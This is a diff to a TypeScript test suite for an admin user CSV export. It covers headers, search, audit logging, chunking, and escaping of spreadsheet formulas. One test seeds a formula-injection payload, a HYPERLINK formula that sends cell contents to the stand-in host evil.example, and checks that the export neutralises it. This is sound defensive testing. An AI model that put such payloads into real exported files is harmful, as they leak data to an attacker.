@@ -6,6 +6,7 @@ import {
   type AdminUser,
   countAdminUsers,
   deleteAdminUser,
+  exportAdminUsers,
   listAdminUsers,
   setUserStatus,
   updateAdminUser,
@@ -192,4 +193,59 @@ test('deleting a person removes their playlists, tracks and files, and leaves sh
   expect(await segue.ctx.blobs.stat(shared.sha256)).not.toBeNull();
   expect(await readdir(path.join(segue.dataDir, 'blobs'))).not.toHaveLength(0);
   expect((await alice.call(deleteAdminUser, { params: { id: heidi.id } })).status).toBe(404);
+});
+
+describe('the list as a file', () => {
+  const csv = async (query = ''): Promise<string[]> => {
+    const answer = await alice.fetch(exportAdminUsers.path + query);
+    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(answer.headers.get('content-disposition')).toContain('attachment');
+    return (await answer.text()).trimEnd().split('\r\n');
+  };
+
+  test('holds everyone, or whom the search leaves, and stands in the audit log', async () => {
+    const [header, ...rows] = await csv();
+    expect(header).toMatch(/^\u{feff}?id,username,email,role,status,/u);
+    const { total } = await alice.ok(countAdminUsers);
+    expect(rows).toHaveLength(total);
+    expect((await csv('?search=bo')).slice(1)).toEqual([expect.stringContaining('bob@segue.test')]);
+    expect((await alice.fetch(`${exportAdminUsers.path}?role=root`)).status).toBe(422);
+    const [entry] = await alice.ok(listAudit, { query: { action: 'user.list_downloaded' } });
+    expect(entry).toMatchObject({ actor: 'alice' });
+  });
+
+  test('never makes a spreadsheet calculate what somebody typed', async () => {
+    const ivan = await segue.member('ivan');
+    await segue.ctx.db
+      .updateTable('users')
+      .set({ block_reason: '=HYPERLINK("http://evil.example/?"&A1,"x")', email: '+cmd@segue.test' })
+      .where('id', '=', ivan.id)
+      .execute();
+    const text = (await csv('?search=ivan')).join('\n');
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
+    expect(text).toContain(`,'+cmd@segue.test,`);
+  });
+
+  test('is cut into pieces, none lost between them', async () => {
+    const now = segue.time.now;
+    const many = Array.from({ length: 1201 }, (_, n) => ({
+      id: newId(now + n),
+      username: `crowd${n}`,
+      username_key: `crowd${n}`,
+      email: `crowd${n}@segue.test`,
+      email_key: `crowd${n}@segue.test`,
+      password_hash: '-',
+      role: 'user' as const,
+      upload_limit_mb: 100,
+      created_at: now,
+    }));
+    for (let from = 0; from < many.length; from += 400) {
+      await segue.ctx.db
+        .insertInto('users')
+        .values(many.slice(from, from + 400))
+        .execute();
+    }
+    const rows = (await csv('?search=crowd')).slice(1).map((row) => row.split(',')[1]);
+    expect(rows).toEqual(many.map((row) => row.username));
+  });
 });
